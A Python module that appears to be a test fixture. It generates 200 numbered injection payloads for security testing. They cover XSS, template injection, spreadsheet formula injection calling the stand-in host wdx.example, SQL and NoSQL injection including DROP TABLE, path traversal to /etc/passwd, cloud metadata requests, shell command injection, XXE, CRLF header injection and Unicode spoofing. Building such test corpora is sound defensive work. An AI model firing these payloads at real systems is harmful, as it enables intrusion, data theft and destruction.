"""200 things that somebody types who means harm. Each bears the mark `wdx` and its number, by which
it is known wherever it turns up; whatever runs says so by calling `pwned`."""

MARK = "wdx"
# What a template that is run would make of its payload.
COUNTED = "233331"
FAR = "//wdx.example/x"
RUN = "pwned(1)"

TAGS = (
    "<script {m}>{r}</script>", "<SCRIPT {m} SRC=https:{f}></SCRIPT>", "<script {m}>{r}//",
    "</title><script {m}>{r}</script>", "</textarea><script {m}>{r}</script>",
    "</script><script {m}>{r}</script>", "--><script {m}>{r}</script>",
    "]]><script {m}>{r}</script>", "<scr<script>ipt {m}>{r}</scr</script>ipt>",
    "<img {m} src=x onerror={r}>", "<img {m} src=https:{f}>", '<img {m} src="x`" onerror="{r}">',
    "<svg {m} onload={r}>", "<svg {m}><script>{r}</script></svg>",
    "<svg {m}><animate onbegin={r} attributeName=x dur=1s>", "<svg {m}><a href='javascript:{r}'>",
    "<svg {m}><use href='data:image/svg+xml,x'></svg>", "<svg/{m}/onload={r}//",
    "<math {m}><mtext></mtext><mglyph><style><img src=x onerror={r}>",
    "<body {m} onload={r}>", "<input {m} autofocus onfocus={r}>", "<details {m} open ontoggle={r}>",
    "<select {m} autofocus onfocus={r}>", "<textarea {m} autofocus onfocus={r}>",
    "<video {m}><source onerror={r}></video>", "<audio {m} src=x onerror={r}>",
    "<iframe {m} src=javascript:{r}></iframe>", "<iframe {m} srcdoc='<script>{r}</script>'>",
    "<iframe {m} src=https:{f}>", "<object {m} data=https:{f}>", "<embed {m} src=https:{f}>",
    "<link {m} rel=stylesheet href=https:{f}>", "<style {m}>@import 'https:{f}';</style>",
    "<style {m}>*{{background:url(https:{f})}}</style>",
    "<div {m} style=background:url(https:{f})>",
    "<base {m} href=https:{f}>", "<meta {m} http-equiv=refresh content='0;url=https:{f}'>",
    "<meta {m} http-equiv=Set-Cookie content=a=b>", "<form {m} action=https:{f}><button>Go",
    "<button {m} formaction=javascript:{r}>Go</button>", "<a {m} href=javascript:{r}>here</a>",
    "<a {m} href='java&#10;script:{r}'>here</a>", "<a {m} href=data:text/html,x>here</a>",
    "<a {m} href=https:{f} ping=https:{f}>here</a>", "<marquee {m} onstart={r}>",
    "<template {m}><script>{r}</script></template>",
    "<noscript><p {m} title='</noscript><img src=x onerror={r}>'>",
    "<keygen {m} autofocus onfocus={r}>", "<isindex {m} action=javascript:{r}>",
    "<table {m} background=https:{f}>", "<portal {m} src=https:{f}>",
    "<x {m} onclick={r} style=position:fixed>", "<x {m} contenteditable autofocus onfocus={r}>",
    "<p {m} hx-get=https:{f} hx-trigger=load>", "<p {m} hx-on:load={r}>",
    "<p {m} hx-vals='js:{{x: {r}}}' hx-post=/ hx-trigger=load>",
    "<p {m} data-hx-get=/ data-hx-on={r}>",
    "<script {m} type=module>import 'https:{f}'</script>",
    "<script {m} type=importmap>{{}}</script>", "<script {m} src=/static/x.js></script>",
)  # fmt: skip
ATTRIBUTES = (
    "\"><img {m} src=x onerror={r}>", "'><img {m} src=x onerror={r}>", "\" onmouseover={r} {m}=\"",
    "' onfocus={r} autofocus {m}='", "\" autofocus onfocus={r} {m} x=\"", "` onerror={r} {m}",
    "\" style=\"x:expression({r})\" {m}=\"", "\" hx-on:load=\"{r}\" {m}=\"",
    "\" nonce=\"\"><script {m}>{r}</script>", "\"/><svg {m} onload={r}>", "&quot;><b {m}>",
    "&#34;&#62;<b {m}>", "%22%3E%3Cimg%20{m}%20src=x%20onerror={r}%3E", "\\\"><b {m}>",
    "\\u003cimg {m} src=x onerror={r}\\u003e", "\\x3cscript {m}\\x3e{r}\\x3c/script\\x3e",
    "javascript:{r}//{m}", "JaVaScRiPt:{r}//{m}", " javascript:{r}//{m}", "java\tscript:{r}//{m}",
    "vbscript:{r} {m}", "data:text/html,<script {m}>{r}</script>", "data:text/html;base64,{m}",
    "https:{f}?{m}", "\\\\wdx.example\\{m}", "{f}?{m}",
)  # fmt: skip
TEMPLATES = (
    "{{{{77777*3}}}} {m}", "${{77777*3}} {m}", "#{{77777*3}} {m}", "<%= 77777*3 %> {m}",
    "{{% print 77777*3 %}} {m}", "{{{{config}}}} {m}", "{{{{request.session}}}} {m}",
    "{{{{''.__class__.__mro__}}}} {m}", "{{{{lipsum.__globals__}}}} {m}",
    "{{% include '/etc/passwd' %}} {m}", "{{% debug %}} {m}", "{{{{settings.SECRET_KEY}}}} {m}",
    "%(77777)s %s %d %n {m}", "{{0}} {{0.__class__}} {m}", "{{self}} {{x!r}} {m}",
    "#read(\"/etc/passwd\") {m}", "#eval(\"77777*3\") {m}", "#include \"/etc/passwd\" {m}",
    "#import \"@preview/x:0.1.0\" {m}", "#image(\"/etc/passwd\") {m}", "#let x = 77777*3; #x {m}",
    "#sys.inputs {m}", "$ 77777 * 3 $ {m}", "= {m}", "#link(\"https:{f}\")[{m}]", "*{m}* _{m}_",
    "`{m}` ```{m}```", "@{m} <{m}>", "\\input{{/etc/passwd}} {m}", "\\write18{{id}} {m}",
)  # fmt: skip
FORMULAS = (
    "=1+1 {m}", "+1+1 {m}", "-1+1 {m}", "@SUM(1,1) {m}", "\t=1+1 {m}", "\r=1+1 {m}", "\n=1+1 {m}",
    " =1+1 {m}", "＝1+1 {m}", "＋1 {m}", "－1 {m}", "＠SUM(1) {m}", "=cmd|'/C calc'!A0 {m}",
    "=HYPERLINK(\"https:{f}\",\"{m}\")", "=IMPORTXML(\"https:{f}\",\"//{m}\")",
    "=WEBSERVICE(\"https:{f}?{m}\")", "=DDE(\"cmd\";\"/C calc\";\"{m}\")",
    "@{m}", "-2+3+cmd|' /C calc'!A0{m}",
    "+cmd|' /C calc'!{m}", "=\"{m}\"&A1", "\"=1+1 {m}", "';=1+1 {m}", ",=1+1 {m}", "\"\n=1+1 {m}",
    "\u00a0=1+1 {m}", "\u200b=1+1 {m}", "\ufeff=1+1 {m}", "=+{m}", "==1 {m}",
)  # fmt: skip
QUERIES = (
    "' OR '1'='1 {m}", "'; DROP TABLE access_user;-- {m}", "\" OR \"\"=\" {m}", "1) OR (1=1 {m}",
    "' UNION SELECT password FROM access_user-- {m}", "\\'; SELECT pg_sleep(9);-- {m}",
    "$$; SELECT 1; $$ {m}", "%' {m}", "_%_ {m}", "*)(uid=*))(|(uid=* {m}", "(&(a=b)(!({m})))",
    "{{\"$gt\": \"\"}} {m}", "$where: {r} {m}", "' or count(/*)=1 or '{m}", "'||(SELECT 1)||'{m}",
    "*/ SELECT /* {m}", "\\' {m}", "1;SELECT 1 {m}",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd {m}", "..\\..\\windows\\win.ini {m}", "/etc/passwd%00{m}",
    "....//....//etc/passwd {m}", "%2e%2e%2fetc%2fpasswd {m}", "file:///etc/passwd {m}",
    "http://169.254.169.254/latest/meta-data {m}", "CON {m}", "~root/{m}", "| cat /etc/passwd {m}",
    "`id` {m}", "$(id) {m}", "; id {m}", "&& id {m}", "<!--#exec cmd=id --> {m}",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e; {m}</x>",
)  # fmt: skip
LINES = (
    "{m}\r\nSet-Cookie: a=b", "{m}\r\n\r\n<script>{r}</script>", "{m}%0d%0aSet-Cookie:a=b",
    "{m}\nBcc: x@wdx.example", "{m}\r\nSubject: x", "{m}\n2026-01-01 00:00:00 INFO signed in",
    "{m}\u2028Set-Cookie: a=b", "{m}\u2029x", "{m}\u0085x", "{m}\x0b\x0cx", "{m}\x1b[2J\x1b[31mred",
    "{m}嘊嘍Set-Cookie: a=b",
)  # fmt: skip
ODD = (
    "\u202e{m}\u202c", "{m}\u202egpj.exe", "\u2066{m}\u2069", "{m}Z\u0351\u0363\u0364\u0489\u0340a",
    "\u200d\u200c\u2060{m}", "{m}" + "\ufdfa" * 6, "{m}\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "{m}" + "A" * 60,
)  # fmt: skip


def _made() -> tuple[str, ...]:
    kinds = (TAGS, ATTRIBUTES, TEMPLATES, FORMULAS, QUERIES, PATHS, LINES, ODD)
    drawn = [words for kind in kinds for words in kind]
    return tuple(
        words.format(m=f"{MARK}{number:03d}", r=RUN, f=FAR) for number, words in enumerate(drawn)
    )


PAYLOADS = _made()
